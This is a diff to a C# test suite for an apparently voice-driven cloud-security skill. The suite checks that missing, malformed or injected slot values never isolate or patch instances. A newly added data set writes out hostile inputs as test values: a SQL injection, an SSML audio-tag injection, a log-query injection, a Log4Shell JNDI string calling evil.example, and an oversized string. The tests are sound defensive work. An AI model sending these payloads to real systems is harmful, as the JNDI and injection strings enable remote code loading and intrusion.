@@ -12,7 +12,7 @@ public sealed class SlotAbuseTests
     [MemberData(nameof(ChangeIntents))]
     public async Task HandleAsync_WhenSlotsAreMissing_AsksInsteadOfActing(string intent)
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
 
         h.AssertSafe(await h.Driver.SendAsync(HostileHarness.Say(intent)));
     }
@@ -21,7 +21,7 @@ public sealed class SlotAbuseTests
     [MemberData(nameof(ChangeIntents))]
     public async Task HandleAsync_WhenSlotsIsNull_AsksInsteadOfActing(string intent)
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
         var request = HostileHarness.Say(intent).Confirmation("CONFIRMED");
         request.Request["intent"]!["slots"] = null;
 
@@ -31,19 +31,19 @@ public sealed class SlotAbuseTests
     [Fact]
     public async Task HandleAsync_WhenUnknownSlotsArrive_IgnoresThem()
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
         var request = HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1"), ("AllInstances", "true"), ("Targets", "i-0a1b2c3d4e5f60002"));
 
         var reply = await h.Driver.SendAsync(request);
 
         h.AssertSafe(reply);
-        Assert.StartsWith("I'm about to isolate 1 instances: web-1.", reply.Speech);
+        Assert.StartsWith("Isolating web-1, instance ending in 0001, in the VPC ending in prod.", reply.Speech);
     }
 
     [Fact]
     public async Task HandleAsync_WhenASlotIsUnresolved_ActsOnNothing()
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
         var request = HostileHarness.Say("PatchIntent", ("TagKey", "environmint"), ("TagValue", "prodution"))
             .Resolved("TagKey", null).Resolved("TagValue", null).Confirmation("CONFIRMED");
 
@@ -53,7 +53,7 @@ public sealed class SlotAbuseTests
     [Fact]
     public async Task HandleAsync_WhenASlotHasOnlyAConfirmationStatus_ActsOnNothing()
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
         var request = HostileHarness.Say("IsolateIntent", ("InstanceName", null)).Confirmation("CONFIRMED");
         request.Request["intent"]!["slots"]!["InstanceName"]!["confirmationStatus"] = "CONFIRMED";
 
@@ -73,7 +73,7 @@ public sealed class SlotAbuseTests
     [InlineData("4f2a")]
     public async Task HandleAsync_WhenAnInstanceIdIsAlmostRight_ReadsBackAtMostOneRealInstanceAndActsOnNothing(string heard)
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
 
         var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", heard)).Confirmation("CONFIRMED"));
 
@@ -104,7 +104,7 @@ public sealed class SlotAbuseTests
     [MemberData(nameof(Injections))]
     public async Task HandleAsync_WhenASlotCarriesAnInjection_SpeaksValidSsmlAndActsOnNothing(string heard)
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
 
         var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", heard)));
 
@@ -117,10 +117,13 @@ public sealed class SlotAbuseTests
     [MemberData(nameof(Injections))]
     public async Task HandleAsync_WhenTheConfirmCountCarriesAnInjection_ActsOnNothing(string heard)
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
         await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments")));
+        var asked = await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments"), ("Selection", "all of them")).Dialog("IN_PROGRESS"));
+        Assert.Equal("ConfirmCount", (string?)asked.Directive("Dialog.ElicitSlot")!["slotToElicit"]);
 
-        var reply = await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments"), ("ConfirmCount", heard)).Dialog("IN_PROGRESS"));
+        var reply = await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments"), ("Selection", "all of them"), ("ConfirmCount", heard))
+            .Dialog("IN_PROGRESS"));
 
         h.AssertSafe(reply);
     }
@@ -129,7 +132,7 @@ public sealed class SlotAbuseTests
     [MemberData(nameof(Injections))]
     public async Task HandleAsync_WhenTheSecurityCodeCarriesAnInjection_NeitherActsNorEchoesIt(string heard)
     {
-        var h = new HostileHarness(new Dictionary<string, string> { ["SECURITY_CODE"] = "mutating" });
+        using var h = new HostileHarness(new Dictionary<string, string> { ["SECURITY_CODE"] = "mutating" });
 
         var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1"), ("SecurityCode", heard)));
 
@@ -137,10 +140,45 @@ public sealed class SlotAbuseTests
         Assert.Null((string?)reply.Directive("Dialog.ElicitSlot")!["updatedIntent"]!["slots"]!["SecurityCode"]!["value"]);
     }
 
+    public static TheoryData<string, string> ReadOnlyCases()
+    {
+        var data = new TheoryData<string, string>();
+        foreach (var intent in new[] { "ScanResultsIntent", "PatchDryRunIntent", "BlockedTrafficIntent", "IsolationStatusIntent", "PatchStatusIntent" })
+            foreach (var heard in new[] { "web-1' OR '1'='1", "</speak><audio src=\"https://evil.example/a.mp3\"/><speak>", "eni-0\"] | stats count(*)", "${jndi:ldap://evil.example/a}", new string('A', 10_000) })
+                data.Add(intent, heard);
+        return data;
+    }
+
+    [Theory]
+    [MemberData(nameof(ReadOnlyCases))]
+    public async Task HandleAsync_WhenAReadOnlyIntentCarriesAnInjection_AnswersAndChangesNothing(string intent, string heard)
+    {
+        using var h = new HostileHarness();
+
+        var reply = await h.Driver.SendAsync(HostileHarness.Say(intent, ("InstanceName", heard)));
+
+        h.AssertSafe(reply);
+        Assert.DoesNotContain("<audio", reply.Ssml);
+        Assert.Empty(h.Http.CallsOf("logs:StartQuery"));
+    }
+
+    [Fact]
+    public async Task Control_BlockedTrafficOfTheIsolatedInstanceReadsTheFlowLogsWithoutChangingAnything()
+    {
+        using var h = new HostileHarness();
+
+        var reply = await h.Driver.SendAsync(HostileHarness.Say("BlockedTrafficIntent", ("InstanceName", HostileHarness.Isolated)));
+
+        h.AssertSafe(reply);
+        Assert.StartsWith("Since web-2 was isolated 24 hours ago, its flow logs show 12 blocked connections.", reply.Speech);
+        var query = Assert.Single(h.Http.CallsOf("logs:StartQuery"));
+        Assert.Contains(h.InterfacesOf(HostileHarness.Isolated).Single(), query.Body);
+    }
+
     [Fact]
     public async Task HandleAsync_WhenASlotValueIsAnObjectInsteadOfText_ActsOnNothing()
     {
-        var h = new HostileHarness();
+        using var h = new HostileHarness();
         var request = HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1")).Confirmation("CONFIRMED");
         request.Request["intent"]!["slots"]!["InstanceName"]!["slotValue"] = new JsonObject
         {
